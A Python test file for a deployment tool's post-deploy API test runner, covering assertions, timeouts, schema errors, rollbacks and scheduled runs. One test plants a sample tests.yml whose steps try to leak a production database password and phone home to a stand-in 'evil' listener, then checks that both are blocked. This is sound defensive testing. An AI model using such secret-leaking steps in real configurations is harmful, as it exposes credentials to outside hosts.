"""Post-deploy API test suites: the schema's refusals and the runner against a real local HTTP server."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator

import pytest
from django.contrib.auth.models import AbstractBaseUser
from django.test import Client
from django.urls import reverse
from pydantic import ValidationError
from ruamel.yaml import YAML

from deployer.apitests.files import SuiteFileError, suites_parse
from deployer.apitests.network import RequestPolicy
from deployer.apitests.runner import SuiteResult, suite_run
from deployer.apitests.runs import environment_test, monitors_due
from deployer.apitests.schema import SuiteSpec
from deployer.catalog.load import CatalogError, catalog_parse
from deployer.choices import DeployStatus
from deployer.demo import setup
from deployer.models import ApiTestRun, ApiTestStep, Environment
from tests.fakes.server import FakeServer, Request, Response
from tests.support.apitests import SMOKE
from tests.support.catalogs import AppRepo, MakeEnvironment
from tests.support.deploys import deploy_and_wait, host_root
from tests.support.listener import Listener
from tests.support.waiting import wait_until
from tests.support.worker import Worker


class App(FakeServer):
    """A small service under test."""

    def __init__(self) -> None:
        super().__init__()
        self.route("GET", r"/version", lambda r: Response(200, {"sha": "abc123", "items": [{"id": 7}], "n": 2.5}))
        self.route("POST", r"/login", self._login)
        self.route("GET", r"/me", self._me)
        self.route("GET", r"/html", lambda r: Response(200, "<!doctype html><h1>Welcome</h1>"))
        self.route("GET", r"/slow", self._slow)

    def _login(self, request: Request) -> Response:
        user = request.json()["user"]
        return Response(201, {"token": f"t-{user}"}, {"X-Session": "s1"})

    def _me(self, request: Request) -> Response:
        if request.headers.get("authorization") != "Bearer t-dana":
            return Response(401, {"error": "who are you"})
        return Response(200, {"user": "dana"})

    def _slow(self, request: Request) -> Response:
        time.sleep(2)
        return Response(200, {"late": True})


@pytest.fixture(scope="module")
def app() -> Iterator[App]:
    server = App().start()
    yield server
    server.stop()


def suite(text: str) -> SuiteSpec:
    return SuiteSpec.model_validate(YAML(typ="safe").load(text))


def run(app: App, text: str, **variables: str) -> SuiteResult:
    return suite_run(
        "t", suite(text), {"base_url": app.url, **variables}, policy=RequestPolicy.of("app/test", [app.url])
    )


def test_steps_chain_through_extracted_variables(app: App) -> None:
    result = run(
        app,
        """
steps:
  - name: log in
    method: POST
    url: "{{base_url}}/login"
    json: {user: "{{who}}"}
    extract: {token: json.token, session: header.X-Session, code: status}
    assert: [{status: 201}]
  - name: who am I
    url: "{{base_url}}/me"
    headers: {Authorization: "Bearer {{token}}", X-Trace: "{{session}}-{{code}}"}
    assert:
      - status: 200
      - json: user
        equals: dana
""",
        who="dana",
    )
    assert result.ok, result
    assert [step.status for step in result.steps] == [201, 200]


@pytest.mark.parametrize(
    ("assertion", "ok", "expected", "actual"),
    [
        ("{status: 200}", True, "200", "200"),
        ("{status: 404}", False, "404", "200"),
        ("{json: sha, equals: abc123}", True, "abc123", "abc123"),
        ("{json: sha, equals: '{{expected}}'}", False, "zzz", "abc123"),
        ("{json: items.0.id, equals: 7}", True, "7", "7"),
        ("{json: sha, contains: c12}", True, "c12", "abc123"),
        ("{json: sha, contains: xyz}", False, "xyz", "abc123"),
        ("{json: items, exists: true}", True, "true", "true"),
        ("{json: nope.deeper, exists: true}", False, "true", "false"),
        ("{json: nope, exists: false}", True, "false", "false"),
        ("{json: n, type: number}", True, "number", "number"),
        ("{json: items, type: object}", False, "object", "array"),
        ("{json: sha, matches: '^a.c'}", True, "^a.c", "abc123"),
        ("{json: sha, matches: '^z'}", False, "^z", "abc123"),
        ("{header: Content-Type, contains: json}", True, "json", "application/json; charset=utf-8"),
        ("{header: X-Missing, exists: true}", False, "true", "false"),
        ("{response_time_ms: 5000}", True, "< 5000 ms", None),
        ("{response_time_ms: 1}", None, "< 1 ms", None),
    ],
)
def test_each_assertion_kind_passes_and_fails(
    app: App, assertion: str, ok: bool | None, expected: str, actual: str | None
) -> None:
    result = run(app, f"steps: [{{name: v, url: '{{{{base_url}}}}/version', assert: [{assertion}]}}]", expected="zzz")
    (judged,) = result.steps[0].assertions
    if ok is not None:
        assert judged.ok is ok, judged
    assert judged.expected == expected
    if actual is not None:
        assert judged.actual == actual


def test_a_step_that_times_out_fails_that_step_and_the_suite_goes_on(app: App) -> None:
    started = time.monotonic()
    result = run(
        app,
        """
steps:
  - {name: slow, url: "{{base_url}}/slow", timeout: 0.5, assert: [{status: 200}]}
  - {name: fast, url: "{{base_url}}/version", assert: [{status: 200}]}
""",
    )
    assert time.monotonic() - started < 2, "the runner did not wait for the slow answer"
    assert [step.ok for step in result.steps] == [False, True]
    assert result.steps[0].error == "no answer within 0.5 s"


def test_html_where_json_was_expected_says_so(app: App) -> None:
    result = run(app, "steps: [{name: page, url: '{{base_url}}/html', assert: [{json: sha, exists: true}]}]")
    (judged,) = result.steps[0].assertions
    assert not judged.ok
    assert judged.actual.startswith("not JSON (text/html;charset=utf-8): '<!doctype html>")


def test_a_missing_variable_fails_the_step_with_the_known_ones(app: App) -> None:
    result = run(app, "steps: [{name: v, url: '{{base_url}}/{{nope}}'}]")
    assert not result.ok
    assert result.steps[0].error.startswith("unknown variable {{nope}} (known: base_url")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("steps: [{name: v, url: x, assert: [{json: a, equal: 1}]}]", "Extra inputs are not permitted"),
        ("steps: [{name: v, url: x, assert: [{json: a}]}]", "needs exactly one of equals, contains"),
        ("steps: [{name: v, url: x, assert: [{status: 200, json: a, exists: true}]}]", "exactly one of status"),
        ("steps: [{name: v, url: x, assert: [{json: a, matches: '('}]}]", "not a valid regular expression"),
        ("variables: {a: '{{b}}', b: '{{a}}'}\nsteps: [{name: v, url: x}]", "cycle: a → b → a"),
        ("steps: [{name: v, url: x, extract: {t: body.token}}]", "must be json.<path>, header.<name> or status"),
        ("steps: []", "at least 1 item"),
    ],
)
def test_bad_suites_are_refused(text: str, message: str) -> None:
    with pytest.raises(ValidationError) as error:
        suite(text)
    assert message in str(error.value)


@pytest.mark.slow
def test_every_deploy_runs_the_suites_on_each_host_and_shows_the_results(
    make_environment: MakeEnvironment,
    celery_worker: Worker,
    deployer: AbstractBaseUser,
    deployer_client: Client,
    app_port: int,
) -> None:
    options = {"host_base_url": f"http://{{address}}:{app_port}", "test_variables": "{loud: Hello}"}
    environment = make_environment(options=options, service_yaml=SMOKE)

    deploy = deploy_and_wait(environment, "main", deployer, celery_worker)

    assert deploy.status == DeployStatus.SUCCEEDED, deploy.reason
    assert deploy.reason == "3 API test runs passed"
    assert sorted(run.target for run in deploy.api_test_runs.all()) == ["127.0.0.11", "127.0.0.12", "127.0.0.13"]
    page = deployer_client.get(reverse("deploy", args=[deploy.pk])).content.decode()
    assert "Post-deploy API tests" in page and 'data-ok="true"' in page


@pytest.mark.slow
def test_failed_tests_end_the_deploy_tests_failed_or_roll_it_back(
    make_environment: MakeEnvironment,
    celery_worker: Worker,
    deployer: AbstractBaseUser,
    deployer_client: Client,
    app_port: int,
) -> None:
    options = {"host_base_url": f"http://{{address}}:{app_port}", "test_variables": "{loud: HELLO}"}
    environment = make_environment(options=options, service_yaml=SMOKE)

    failed = deploy_and_wait(environment, "main", deployer, celery_worker)
    assert failed.status == DeployStatus.TESTS_FAILED, failed.reason
    assert failed.reason.startswith("post-deploy API tests failed: smoke on 127.0.0.11: greeting")
    page = deployer_client.get(reverse("deploy", args=[failed.pk])).content.decode()
    assert "json greeting contains: expected <code>HELLO</code>, got <code>Hello from the Gantry demo</code>" in page

    shout = deploy_and_wait(environment, "feature/shout", deployer, celery_worker)
    assert shout.status == DeployStatus.SUCCEEDED, shout.reason
    Environment.objects.filter(pk=environment.pk).update(rollback_on_tests_failed=True)
    rolled = deploy_and_wait(environment, "main", deployer, celery_worker)
    assert rolled.status == DeployStatus.ROLLED_BACK, rolled.reason
    assert "rolled back 127.0.0.11, 127.0.0.12, 127.0.0.13" in rolled.reason
    for index in range(3):
        assert os.readlink(host_root(environment, index) / "current") == f"releases/{shout.pk}"
    assert Environment.objects.get(pk=environment.pk).is_locked


def test_a_bad_suite_in_the_catalog_is_refused_with_its_line_and_a_hint() -> None:
    text = """
services:
  app:
    repo: /srv/git/app.git
    api_tests:
      smoke:
        steps:
          - name: version
            url: "{{base_url}}/version"
            assert:
              - json: sha
                equal: abc
    environments:
      test: {deploy_path: /srv/app, hosts: [{address: 10.0.0.1}]}
"""
    with pytest.raises(CatalogError) as error:
        catalog_parse(text)
    assert str(error.value) == (
        "catalog.yml:12: services.app.api_tests.smoke.steps[0].assert[0].equal: unknown key 'equal'; "
        "did you mean 'equals'?"
    )


REPO_SUITE = """smoke:
  steps:
    - name: quiet greeting
      url: "{{base_url}}/version"
      assert:
        - {json: greeting, contains: Hello}
"""


@pytest.mark.slow
def test_the_repository_suites_at_the_deployed_sha_win_over_the_catalog(
    make_environment: MakeEnvironment,
    celery_worker: Worker,
    deployer: AbstractBaseUser,
    app_port: int,
    app_repo: AppRepo,
) -> None:
    setup.repo_branch(app_repo.path, "with-tests", {".gantry/tests.yml": REPO_SUITE}, "Tests travel with the code")
    bad = REPO_SUITE.replace("contains: Hello", "contain: Hello")
    setup.repo_branch(app_repo.path, "bad-tests", {".gantry/tests.yml": bad}, "A typo in the tests")
    options = {"host_base_url": f"http://{{address}}:{app_port}", "test_variables": "{loud: HELLO}"}
    environment = make_environment(hosts=None, options=options, service_yaml=SMOKE)

    good = deploy_and_wait(environment, "with-tests", deployer, celery_worker)
    assert good.status == DeployStatus.SUCCEEDED, good.reason
    assert {run.suite for run in good.api_test_runs.all()} == {"smoke"}
    assert good.api_test_runs.first().steps.get().name == "quiet greeting"

    broken = deploy_and_wait(environment, "bad-tests", deployer, celery_worker)
    assert broken.status == DeployStatus.TESTS_FAILED
    step = broken.api_test_runs.get().steps.get()
    assert step.error == (
        ".gantry/tests.yml:6: smoke.steps[0].assert[0].contain: unknown key 'contain'; did you mean 'contains'?"
    )


@pytest.mark.slow
def test_a_deployed_branch_cannot_send_a_worker_secret_or_anything_elsewhere(
    make_environment: MakeEnvironment,
    celery_worker: Worker,
    deployer: AbstractBaseUser,
    app_port: int,
    app_repo: AppRepo,
) -> None:
    evil = Listener().start()
    steal = """secrets:
  steps:
    - {name: steal, url: "{{base_url}}/version?k={{secret.PROD_DB_PASSWORD}}"}
elsewhere:
  steps:
    - {name: phone home, url: "EVIL/?sha={{sha}}"}
""".replace("EVIL", evil.url)
    setup.repo_branch(app_repo.path, "steal", {".gantry/tests.yml": steal}, "Just some tests")
    environment = make_environment(hosts=None, options={"host_base_url": f"http://{{address}}:{app_port}"})

    deploy = deploy_and_wait(environment, "steal", deployer, celery_worker)

    assert deploy.status == DeployStatus.TESTS_FAILED, deploy.reason
    errors = {run.suite: run.steps.get().error for run in deploy.api_test_runs.all() if run.target == "environment"}
    assert errors["secrets"] == (
        "suite secrets from .gantry/tests.yml: it uses secret.PROD_DB_PASSWORD, which app/test does not grant; "
        "add PROD_DB_PASSWORD to api_test_secrets of environment test in the catalog"
    )
    steps = ApiTestStep.objects.filter(run__deploy=deploy, run__suite="elsewhere")
    assert all(step.error.startswith(f"not sent: {evil.url} is not an origin") for step in steps)
    assert (evil.connections, evil.received) == (0, b"")
    evil.stop()


def test_a_tests_file_that_is_not_yaml_or_not_suites_is_refused_with_a_line() -> None:
    with pytest.raises(SuiteFileError, match=r"^\.gantry/tests\.yml:1: the file must map suite names"):
        suites_parse("- just a list\n")
    with pytest.raises(SuiteFileError, match=r"^\.gantry/tests\.yml:1: smoke: missing required key 'steps'; add it"):
        suites_parse("smoke:\n  variables: {}\n")


@pytest.mark.slow
def test_suites_run_on_demand_and_on_schedule_and_show_as_a_strip(
    make_environment: MakeEnvironment,
    celery_worker: Worker,
    deployer: AbstractBaseUser,
    deployer_client: Client,
    app_port: int,
) -> None:
    options = {
        "host_base_url": f"http://{{address}}:{app_port}",
        "test_variables": "{loud: Hello}",
        "monitor_minutes": "5",
    }
    environment = make_environment(hosts=None, options=options, service_yaml=SMOKE)
    deploy = deploy_and_wait(environment, "main", deployer, celery_worker)
    assert deploy.status == DeployStatus.SUCCEEDED, deploy.reason

    assert deployer_client.post(reverse("api-tests-run", args=["app", "test"])).status_code == 302
    wait_until(lambda: ApiTestRun.objects.filter(trigger="manual").count() == 3)
    manual = ApiTestRun.objects.filter(trigger="manual").first()
    assert manual.ok and manual.deploy is None
    assert manual.steps.first().assertions[0]["ok"] is True

    assert monitors_due() == [environment.pk]
    environment_test(environment.pk, ApiTestRun.Trigger.SCHEDULE)
    assert monitors_due() == [], "the next scheduled run waits monitor_minutes"

    page = deployer_client.get(reverse("service", args=["app"])).content.decode()
    assert page.count('class="tick tick-green"') == 9, "deploy, manual and scheduled runs on 3 hosts"
    detail = deployer_client.get(reverse("api-run", args=[manual.pk])).content.decode()
    assert "API tests: smoke" in detail and "on demand" in detail
